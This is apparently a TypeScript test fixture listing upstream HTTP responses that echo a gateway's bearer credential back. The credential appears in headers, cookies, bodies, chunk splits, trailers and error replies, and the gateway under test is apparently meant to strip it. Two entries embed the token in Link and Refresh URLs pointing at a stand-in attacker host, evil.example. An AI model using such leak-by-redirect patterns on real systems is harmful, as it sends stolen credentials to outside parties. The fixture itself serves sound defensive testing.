/**
 * @module Answers of an upstream that says everything it was told.
 */

import { POWERFUL } from "../support/gateway.ts";
import { answer, type Reflection } from "./reflection.ts";

const ECHO = `Authorization: Bearer ${POWERFUL}`;

function chunked(...chunks: readonly string[]): readonly string[] {
  const head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
  return [head, ...chunks.map((chunk) => `${chunk.length.toString(16)}\r\n${chunk}\r\n`), "0\r\n\r\n"];
}

/** Said again, in one place or another: the answer goes on, the credential does not. */
const SAID_AGAIN: readonly Reflection[] = (
  [
    ["in a header", [answer("200 OK", [`X-Echo: ${ECHO}`], "{}")]],
    ["in a header, twice", [answer("200 OK", [`X-Echo: ${POWERFUL},${POWERFUL}`], "{}")]],
    ["in two headers of one name", [answer("200 OK", [`X-Echo: ${POWERFUL}`, `X-Echo: ${POWERFUL}`], "{}")]],
    ["as a header's name", [answer("200 OK", [`${POWERFUL}: x`], "{}")]],
    ["within a header's name, in capitals", [answer("200 OK", [`X-${POWERFUL.toUpperCase()}-Y: x`], "{}")]],
    ["as an authorization header", [answer("200 OK", [ECHO, `Proxy-${ECHO}`], "{}")]],
    ["as a cookie", [answer("200 OK", [`Set-Cookie: session=${POWERFUL}; Path=/`], "{}")]],
    ["as a request id", [answer("200 OK", [`X-Request-Id: ${POWERFUL}`], "{}")]],
    ["as a file's name", [answer("200 OK", [`Content-Disposition: attachment; filename=${POWERFUL}`], "x")]],
    ["in a link", [answer("200 OK", [`Link: <https://evil.example/?t=${POWERFUL}>; rel=next`], "{}")]],
    ["in a refresh", [answer("200 OK", [`Refresh: 0; url=https://evil.example/?t=${POWERFUL}`], "{}")]],
    ["in authentication information", [answer("200 OK", [`Authentication-Info: ${POWERFUL}`], "{}")]],
    ["in a challenge", [answer("200 OK", [`WWW-Authenticate: Bearer realm="${POWERFUL}"`], "{}")]],
    ["in the reason phrase", [answer(`200 ${POWERFUL}`, [], "{}")]],
    ["in a body", [answer("200 OK", [], `{"headers":{"authorization":"Bearer ${POWERFUL}"}}`)]],
    ["as a body", [answer("200 OK", [], POWERFUL)]],
    ["many times over", [answer("200 OK", [], POWERFUL.repeat(2000))]],
    ["after its own beginning", [answer("200 OK", [], POWERFUL.slice(0, 20) + POWERFUL)]],
    ["byte by byte", chunked(...POWERFUL)],
    ["in three chunks, after its own beginning", chunked("powerful-0", "powerful-0123", POWERFUL.slice(13))],
    ["at the end of a body without length", [`HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nx${POWERFUL}`]],
    [
      "in a chunk extension",
      ["HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", `2;x=${POWERFUL}\r\n{}\r\n0\r\n\r\n`],
    ],
    [
      "in a trailer",
      [
        `HTTP/1.1 200 OK\r\nTrailer: X-Echo\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-Echo: ${POWERFUL}\r\n\r\n`,
      ],
    ],
    [
      "in early hints",
      [`HTTP/1.1 103 Early Hints\r\nX-Echo: ${POWERFUL}\r\n\r\n`, answer("200 OK", [], "{}")],
    ],
    ["in what follows the answer", [`${answer("200 OK", [], "{}")}${answer("200 OK", [], POWERFUL)}`]],
  ] satisfies [string, readonly string[]][]
).map(([name, parts]) => ({ name: `the credential ${name}`, parts, status: 200 }));

const SPLIT: readonly Reflection[] = Array.from({ length: POWERFUL.length - 1 }, (_, index) => ({
  name: `the credential in two chunks, ${index + 1} characters in the first`,
  parts: chunked(`<${POWERFUL.slice(0, index + 1)}`, `${POWERFUL.slice(index + 1)}>`),
  status: 200,
}));

const WITH_STATUS: readonly Reflection[] = [
  { name: "an error that says it", parts: [answer("400 Bad", [], `bad header: ${ECHO}`)], status: 400 },
  { name: "a fault that says it", parts: [answer("500 X", [], `at send (${POWERFUL})`)], status: 500 },
  {
    name: "a proxy's challenge that says it",
    parts: [answer("407 X", [`Proxy-Authenticate: Basic realm="${POWERFUL}"`], POWERFUL)],
    status: 407,
  },
  { name: "an answer without content", parts: [`HTTP/1.1 204 X\r\nX-Echo: ${ECHO}\r\n\r\n`], status: 204 },
  { name: "nothing new", parts: [`HTTP/1.1 304 X\r\nETag: "${POWERFUL}"\r\n\r\n`], status: 304 },
  {
    name: "the head alone",
    parts: [`HTTP/1.1 200 X\r\nX-Echo: ${ECHO}\r\nContent-Length: 9\r\n\r\n`],
    status: 200,
    method: "HEAD",
  },
  {
    name: "a rejection of the credential",
    parts: [answer("401 X", [`WWW-Authenticate: Bearer error_description="${POWERFUL}"`], POWERFUL)],
    status: 502,
  },
];

export const REFLECTIONS: readonly Reflection[] = [...SAID_AGAIN, ...SPLIT, ...WITH_STATUS];
